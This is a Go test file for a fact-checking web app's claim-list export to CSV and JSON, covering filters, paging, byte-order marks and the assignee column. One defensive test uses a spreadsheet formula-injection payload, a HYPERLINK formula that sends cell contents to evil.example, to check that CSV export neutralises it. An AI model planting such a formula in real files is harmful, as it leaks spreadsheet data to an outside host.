package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/claimtrack/claimtrack/internal/claimtrack"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// The claims list offers its view for download, every page of it, with its
// filters kept; the CSV and the JSON list the same claims as the list.
func TestClaimListExport(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	a.setStatus("1", claimtrack.StatusRefuted, "He stayed in Washington.")
	a.setStatus("3", claimtrack.StatusRefuted, "They were.")

	list := a.get("/claims?status=refuted")
	links := list.doc.Find(`[data-testid="export-view"] a`)
	require.Equal(t, 2, links.Length())
	assert.Equal(t, "/claims.csv?status=refuted", links.Eq(0).AttrOr("href", ""))
	assert.Equal(t, "/claims.json?status=refuted", links.Eq(1).AttrOr("href", ""))

	res := a.get("/claims.csv?status=refuted")
	require.Equal(t, http.StatusOK, res.status)
	assert.Equal(t, "text/csv; charset=utf-8", res.header.Get("Content-Type"))
	assert.Contains(t, res.header.Get("Content-Disposition"), `attachment; filename="claims-`)
	assert.True(t, strings.HasPrefix(res.body, "\ufeff"), "a CSV file starts with a byte-order mark")
	assert.Equal(t, strconv.Itoa(len(res.body)), res.header.Get("Content-Length"), "a download announces its length")
	records, err := readCSV(res.body)
	require.NoError(t, err)
	require.Equal(t, []string{"id", "url", "text", "status", "kind", "main_source", "tags", "due_date", "context",
		"verdict_note", "version", "created_at", "updated_at", "assignee", "verdict_by", "verdict_at"}, records[0])
	require.Len(t, records, 3)
	assert.Equal(t, []string{"3", "1"}, []string{records[1][0], records[2][0]}, "newest first, as the list")
	assert.Equal(t, a.srv.URL+"/claims/1", records[2][1])
	assert.Equal(t, "refuted", records[2][3])
	assert.Equal(t, "Le Point", records[2][5])
	assert.Equal(t, "He stayed in Washington.", records[2][9])

	res = a.get("/claims.json?status=refuted")
	require.Equal(t, http.StatusOK, res.status)
	var doc struct {
		Filters map[string]any `json:"filters"`
		Claims  []struct {
			ID         int64    `json:"id"`
			URL        string   `json:"url"`
			Text       string   `json:"text"`
			Status     string   `json:"status"`
			MainSource string   `json:"main_source"`
			Tags       []string `json:"tags"`
		} `json:"claims"`
	}
	require.NoError(t, json.Unmarshal([]byte(res.body), &doc), res.body)
	assert.Equal(t, "refuted", doc.Filters["status"])
	require.Len(t, doc.Claims, 2)
	assert.EqualValues(t, 1, doc.Claims[1].ID)
	assert.Equal(t, "Le Point", doc.Claims[1].MainSource)

	// Every page: more claims than a page holds come out whole.
	for i := 0; i < 30; i++ {
		require.Equal(t, http.StatusSeeOther, a.post("/claims", map[string][]string{
			"text": {"Generated claim number " + strconv.Itoa(i) + " about the parade."}, "kind": {"statement"}, "tags": {"bulk"},
			"similar_seen": {"1"}}).status)
	}
	page, err := a.db.FindClaims(context.Background(), claimtrack.ClaimFilter{Tag: "bulk", Limit: 1000})
	require.NoError(t, err)
	require.Equal(t, 30, page.Total)
	records, err = readCSV(a.get("/claims.csv?tag=bulk").body)
	require.NoError(t, err)
	require.Len(t, records, 31)
	for i, c := range page.Claims {
		assert.Equal(t, strconv.FormatInt(c.ID, 10), records[i+1][0])
		assert.Equal(t, "bulk", records[i+1][6])
	}
	records, err = readCSV(a.get("/claims.csv?q=parade+-generated").body)
	require.NoError(t, err)
	for _, r := range records[1:] {
		assert.NotContains(t, r[2], "Generated", "the words filter applies")
	}

	// An empty view is a header alone, or an empty list; an unknown source is a 404.
	records, err = readCSV(a.get("/claims.csv?tag=nothing-like-this").body)
	require.NoError(t, err)
	assert.Len(t, records, 1)
	require.NoError(t, json.Unmarshal([]byte(a.get("/claims.json?tag=nothing-like-this").body), &doc))
	assert.Empty(t, doc.Claims)
	assert.Equal(t, http.StatusNotFound, a.get("/claims.csv?source=9999").status)
}

// readCSV reads a downloaded CSV file, past its byte-order mark.
func readCSV(body string) ([][]string, error) {
	return csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
}

// Issue 16, item 6: a claim whose text is a spreadsheet formula is exported
// neutralised (a single quote in front), in a file that starts with a
// byte-order mark; the JSON keeps the text as it is.
func TestClaimListExport_FormulasNeutralised(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	text := `=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")`
	require.Equal(t, http.StatusSeeOther, a.post("/claims", map[string][]string{
		"text": {text}, "kind": {"statement"}, "tags": {"formula"}, "context": {"-5% was the figure; +1 for the desk; @editor"}}).status)

	res := a.get("/claims.csv?tag=formula")
	require.Equal(t, http.StatusOK, res.status)
	require.True(t, strings.HasPrefix(res.body, "\ufeff"), "the file starts with a byte-order mark")
	assert.NotContains(t, res.body, ","+text, "the formula is not a cell of its own")
	records, err := readCSV(res.body)
	require.NoError(t, err)
	require.Len(t, records, 2)
	assert.Equal(t, "'"+text, records[1][2], "the text is neutralised")
	assert.Equal(t, "'-5% was the figure; +1 for the desk; @editor", records[1][8], "a leading minus sign too")
	for _, cell := range records[1] {
		if cell != "" {
			assert.NotContains(t, "=+-@\t\r", cell[:1], "no cell starts a formula: %q", cell)
		}
	}

	var doc struct {
		Claims []struct {
			Text string `json:"text"`
		} `json:"claims"`
	}
	require.NoError(t, json.Unmarshal([]byte(a.get("/claims.json?tag=formula").body), &doc))
	require.Len(t, doc.Claims, 1)
	assert.Equal(t, text, doc.Claims[0].Text, "JSON is for programs: the text as it is")
}

// The claims list's download names each claim's assignee, and takes the
// list's assignee filter.
func TestClaimListExport_Assignee(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	a.signInAs("ana", claimtrack.RoleEditor)
	require.Equal(t, http.StatusSeeOther, a.post("/claims/2/assignee", url.Values{"assignee": {"ana"}}).status)

	records, err := readCSV(a.get("/claims.csv?assignee=ana").body)
	require.NoError(t, err)
	require.Len(t, records, 2)
	col := slices.Index(records[0], "assignee")
	require.Positive(t, col)
	assert.Equal(t, []string{"2", "ana"}, []string{records[1][0], records[1][col]})
	records, err = readCSV(a.get("/claims.csv").body)
	require.NoError(t, err)
	for _, r := range records[1:] {
		if r[0] != "2" {
			assert.Empty(t, r[col], "claim %s is assigned to nobody", r[0])
		}
	}
	var doc struct {
		Claims []struct {
			ID       int64  `json:"id"`
			Assignee string `json:"assignee"`
		} `json:"claims"`
	}
	require.NoError(t, json.Unmarshal([]byte(a.get("/claims.json?assignee=ana").body), &doc))
	require.Len(t, doc.Claims, 1)
	assert.Equal(t, "ana", doc.Claims[0].Assignee)
}
